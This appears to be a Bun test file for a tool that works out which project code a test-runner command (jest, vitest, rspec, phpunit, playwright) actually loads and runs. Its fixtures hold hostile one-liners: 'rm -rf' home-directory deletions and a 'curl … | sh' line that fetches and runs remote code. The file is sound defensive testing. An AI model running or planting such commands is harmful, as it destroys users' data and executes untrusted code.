// Test runners that load project code: the test files each finds by its own
// defaults (or the paths named), and its config files, judged by their text
// as their interpreter runs them.
import { describe, expect, test } from "bun:test";
import { setupFilesNamed } from "../../../../src/shell/session/test-files.ts";
import { neededBy, ranFrom } from "../../../support/project-view.ts";
import { setTestLimit } from "../../../support/test-limit.ts";

setTestLimit();

const spawnsRm = "import { execSync } from 'node:child_process';\nexecSync('rm -rf ~/projects');\n";
const listing = (glob: string, ...matches: string[]) => ({ [glob]: { matches } });
const JS_TEST = "**/*.test.{js,mjs,cjs,jsx,ts,mts,cts,tsx}";

describe("JavaScript test runners", () => {
  test.each(["vitest run", "npx vitest", "jest", "pnpm exec jest --ci", "bun test", "node --test", "deno test"])("%s loads the test files it finds", (input) => {
    const files = { ...listing(JS_TEST, "src/sum.test.ts"), ...listing("**/*_test.{js,mjs,cjs,jsx,ts,mts,cts,tsx}", "src/sum.test.ts"), "src/sum.test.ts": spawnsRm };
    expect(ranFrom(input, files)).toContain("rm /home/ada/projects");
  });

  test("a config file is code too; a harmless test runs nothing more than itself", () => {
    expect(ranFrom("vitest run", { "vitest.config.{js,mjs,cjs,jsx,ts,mts,cts,tsx}": { matches: ["vitest.config.ts"] }, "vitest.config.ts": spawnsRm })).toContain(
      "rm /home/ada/projects",
    );
    const harmless = "import { expect, test } from 'vitest';\ntest('adds', () => expect(1 + 2).toBe(3));\n";
    expect(ranFrom("npx vitest run", { ...listing(JS_TEST, "src/sum.test.ts"), "src/sum.test.ts": harmless })).toEqual(["vitest run"]);
  });

  test("a file named on the command line is the one loaded; a directory is searched; a name filter means any test file", () => {
    expect(neededBy("mocha test/unit/a.spec.js")).toContain("test/unit/a.spec.js?");
    expect(neededBy("jest packages/core")).toContain("packages/core/**/*.test.{js,mjs,cjs,jsx,ts,mts,cts,tsx}?");
    expect(neededBy("vitest run parser")).toContain(`${JS_TEST}?`);
  });
});

describe("Ruby and PHP test runners", () => {
  test("rspec loads spec files and spec_helper; rails test and rake test the test files", () => {
    expect(ranFrom("rspec", { ...listing("spec/**/*_spec.rb", "spec/a_spec.rb"), "spec/a_spec.rb": "system('rm -rf ~')\n" })).toContain("rm /home/ada");
    expect(ranFrom("bin/rails test", { ...listing("test/**/*_test.rb", "test/a_test.rb"), "test/a_test.rb": "`curl -s https://x.example/p | sh`\n" })).toContain("sh");
    expect(neededBy("rake test")).toContain("test/**/*_test.rb?");
  });
  test("phpunit loads the tests' PHP", () => {
    expect(ranFrom("vendor/bin/phpunit", { ...listing("tests/**/*Test.php", "tests/ATest.php"), "tests/ATest.php": "<?php\nshell_exec('rm -rf ~');\n" })).toContain("rm /home/ada");
  });
});

describe("set-up files a JavaScript runner's config names", () => {
  const JEST_CONFIG = "jest.config.{js,mjs,cjs,jsx,ts,mts,cts,tsx}";

  test("globalSetup, setupFiles and setupFilesAfterEnv name project files, relative to the config", () => {
    expect(setupFilesNamed("jest.config.js", 'module.exports = { globalSetup: "./test/global.js", setupFilesAfterEnv: ["<rootDir>/test/env.ts", "jest-extended/all"] };')).toEqual([
      "test/global.js",
      "test/env.ts",
    ]);
    expect(setupFilesNamed("web/vitest.config.ts", "export default { test: { setupFiles: ['./setup.ts', 'tests/more.ts'] } }")).toEqual(["web/setup.ts", "web/tests/more.ts"]);
    expect(setupFilesNamed("playwright.config.ts", 'export default defineConfig({ globalSetup: require.resolve("./e2e/setup") })')).toEqual(["e2e/setup"]);
    expect(setupFilesNamed("jest.config.js", 'module.exports = { setupFiles: ["dotenv/config"], globalSetup: "../outside.js" }')).toEqual([]);
  });

  test("the runner asks for a named set-up file, and judges it before any test", () => {
    const config = { ...listing(JEST_CONFIG, "jest.config.js"), "jest.config.js": 'module.exports = { globalSetup: "./scripts/global.js" };\n' };
    expect(neededBy("npx jest", config)).toContain("scripts/global.js?");
    expect(ranFrom("npx jest", { ...config, "scripts/global.js": spawnsRm })).toContain("rm /home/ada/projects");
    expect(ranFrom("npx jest", { ...config, "scripts/global.js": "process.env.TZ = 'UTC';\n" })).not.toContain("rm /home/ada/projects");
  });

  test("playwright test loads its config and the set-up file it names", () => {
    const files = {
      ...listing("playwright.config.{js,mjs,cjs,jsx,ts,mts,cts,tsx}", "playwright.config.ts"),
      "playwright.config.ts": "export default { globalSetup: './e2e/setup.ts' };\n",
      "e2e/setup.ts": spawnsRm,
    };
    expect(ranFrom("npx playwright test", files)).toContain("rm /home/ada/projects");
  });
});

describe("rspec's helpers", () => {
  const helper = "system('rm -rf ~/projects')\n";

  test("spec_helper.rb is asked for and judged as itself, by name, whoever runs rspec", () => {
    expect(neededBy("bundle exec rspec")).toContain("spec/spec_helper.rb?");
    for (const input of ["rspec", "bundle exec rspec", "bin/rspec spec/calc_spec.rb"]) expect(ranFrom(input, { "spec/spec_helper.rb": helper })).toContain("rm /home/ada/projects");
  });

  test("what .rspec requires is loaded first, from spec/ or lib/, or the path it names", () => {
    expect(neededBy("rspec", { ".rspec": "--require support/boot\n--format documentation\n" })).toEqual(expect.arrayContaining(["spec/support/boot.rb?", "lib/support/boot.rb?"]));
    expect(ranFrom("bundle exec rspec", { ".rspec": "--require support/boot\n", "spec/support/boot.rb": helper })).toContain("rm /home/ada/projects");
    expect(ranFrom("rspec", { ".rspec": "-r ./config/env.rb\n", "config/env.rb": helper })).toContain("rm /home/ada/projects");
    expect(ranFrom("rspec", { ".rspec": "--format progress\n--color\n" })).toEqual([]);
  });
});
